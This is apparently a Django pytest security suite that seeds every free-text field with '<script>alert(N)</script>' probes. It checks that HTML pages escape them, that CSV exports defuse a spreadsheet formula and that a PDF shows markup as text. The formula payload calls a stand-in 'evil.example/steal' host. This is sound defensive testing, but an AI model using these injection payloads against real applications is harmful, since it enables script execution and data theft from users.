"""Script and formula injection in every free-text field that is shown to someone.

Each field of the test world is given `<script>alert(N)</script>` (N tells the fields apart)
and, for names, a spreadsheet formula. Then every URL in the URLconf is opened by GET as every
persona, and:
- no HTML page contains a payload unescaped, and each field's payload is seen escaped on at
  least one page (so the field really is rendered and the check is not vacuous);
- no CSV answer has a cell a spreadsheet would run as a formula;
- the passport PDF carries the payloads as text, not as markup for reportlab.
"""

import csv
import html
import io

import pytest
from django.test import Client
from django.urls import reverse
from pypdf import PdfReader

from core.csv_safety import FORMULA_PREFIXES
from employers.services import sharecodes, staff
from passports.services import passports as passport_services
from tests.security.urlwalk import PERSONAS, all_routes, url_for
from tests.security.world import DATE_OF_BIRTH

FORMULA = '=HYPERLINK("http://evil.example/steal","Click me")'


def script(number: int) -> str:
    return f"<script>alert({number})</script>"


def _inject(world) -> dict[int, str]:
    """Puts a payload into every free-text field of the world; {number: "what field"}."""
    o = world.objects
    fields = {}

    def put(instance, field, what):
        number = len(fields) + 1
        fields[number] = what
        setattr(instance, field, script(number))
        instance.save(update_fields=[field])

    worker = world.personas["worker"]
    put(worker, "full_name", "the worker's account name")
    put(o["entry"], "full_name", "the name on the register entry")
    o["entry"].search_town = "leeds"
    put(o["entry"].application, "legal_name", "the legal name on the application")
    put(o["employer_org"], "name", "the employer's name")
    put(o["provider_org"], "name", "the training provider's name")
    put(o["association"], "name", "the association's name")
    put(o["record"].standard, "title", "a training standard's title")
    put(o["worker_record"], "provider_name", "the provider named on a worker's record")
    put(o["share_code"], "label", "a share code's note")
    put(o["api_key"], "name", "an API key's name")
    put(o["name_change"], "new_name", "a requested new name")
    put(o["renewal"], "criminal_record_details", "renewal declaration details")
    put(o["renewal"], "health_condition_details", "renewal health details")
    put(o["cpd"], "title", "a CPD activity's title")
    put(o["cpd"], "reflection", "a CPD activity's reflection")
    put(o["draft_consultation"], "title", "a consultation's title")
    put(o["draft_consultation"], "summary", "a consultation's summary")
    put(o["consultation"], "privacy_notice", "a consultation's privacy notice")
    put(o["draft_page"], "title", "a consultation page's title")
    put(o["draft_question"], "text", "a consultation question")
    put(world.personas["employer_member"], "full_name", "an organisation member's name")
    # A formula where a spreadsheet would see it: a name on the employer's staff list.
    other = o["other_entry"]
    other.full_name = FORMULA
    other.save(update_fields=["full_name"])
    return fields


def _walk(world):
    pages = []
    for persona in PERSONAS:
        client = Client(raise_request_exception=False)
        if persona != "anonymous":
            client.force_login(world.personas[persona])
        for route in all_routes():
            url = url_for(route, world)
            response = client.get(url)
            pages.append((persona, url, response))
    return pages


@pytest.mark.django_db
def test_every_free_text_field_is_escaped_in_html_and_neutralised_in_csv(world):
    fields = _inject(world)
    pages = _walk(world)

    unescaped, seen = [], set()
    for persona, url, response in pages:
        content_type = response.get("Content-Type", "")
        if response.streaming:  # evidence files and the like: the owner's own bytes
            continue
        body = response.content.decode("utf-8", "replace")
        if content_type.startswith("text/html"):
            for number, what in fields.items():
                if script(number) in body:
                    unescaped.append(f"{what} unescaped on {url} for {persona}")
                if html.escape(script(number), quote=False) in body:
                    seen.add(number)
        elif content_type.startswith("text/csv"):
            for row in csv.reader(io.StringIO(body.lstrip("\ufeff"))):
                for cell in row:
                    if cell.startswith(FORMULA_PREFIXES):
                        unescaped.append(f"formula cell {cell!r} in {url}")

    assert not unescaped, "\n".join(unescaped)
    never_shown = sorted(what for number, what in fields.items() if number not in seen)
    assert not never_shown, f"never rendered on any page, so not proven escaped: {never_shown}"


@pytest.mark.django_db
def test_the_staff_list_csv_neutralises_a_formula_in_a_name(world, client):

    o = world.objects
    other = world.personas["other_worker"]
    o["other_entry"].full_name = FORMULA
    o["other_entry"].save(update_fields=["full_name"])
    _, code = sharecodes.share_code_create(
        worker=other, entry=o["other_entry"], shares_identity_checks=False
    )
    check = sharecodes.share_code_check(
        organisation=o["employer_org"],
        user=world.personas["employer"],
        code=code,
        date_of_birth=DATE_OF_BIRTH,
    ).check
    staff.staff_add(organisation=o["employer_org"], user=world.personas["employer"], check=check)
    client.force_login(world.personas["employer"])

    body = client.get(reverse("employers:staff-csv", args=[o["employer_org"].pk])).content
    rows = csv.reader(io.StringIO(body.decode().lstrip("\ufeff")))
    cells = [cell for row in rows for cell in row]

    assert "'" + FORMULA in cells
    assert FORMULA not in cells


@pytest.mark.django_db
def test_the_passport_pdf_carries_names_and_titles_as_text_not_markup(world, client):
    o = world.objects
    entry = o["entry"]
    entry.full_name = '<b>Wendy</b> <font color="red">&amp;</font> <script>alert(1)</script>'
    entry.save(update_fields=["full_name"])
    standard = o["worker_record"].standard
    standard.title = "<i>Fire</i> & <u>safety</u> <para>x</para>"
    standard.save(update_fields=["title"])
    passport = passport_services.passport_issue(entry=entry, requested_by=entry.worker)
    client.force_login(entry.worker)

    response = client.get(reverse("passports:download-pdf", args=[passport.public_id]))

    assert response.status_code == 200
    text = "".join(page.extract_text() for page in PdfReader(io.BytesIO(response.content)).pages)
    squashed = " ".join(text.split())
    assert "<b>Wendy</b>" in squashed
    assert "<script>alert(1)</script>" in squashed
    assert "<i>Fire</i> & <u>safety</u>" in squashed
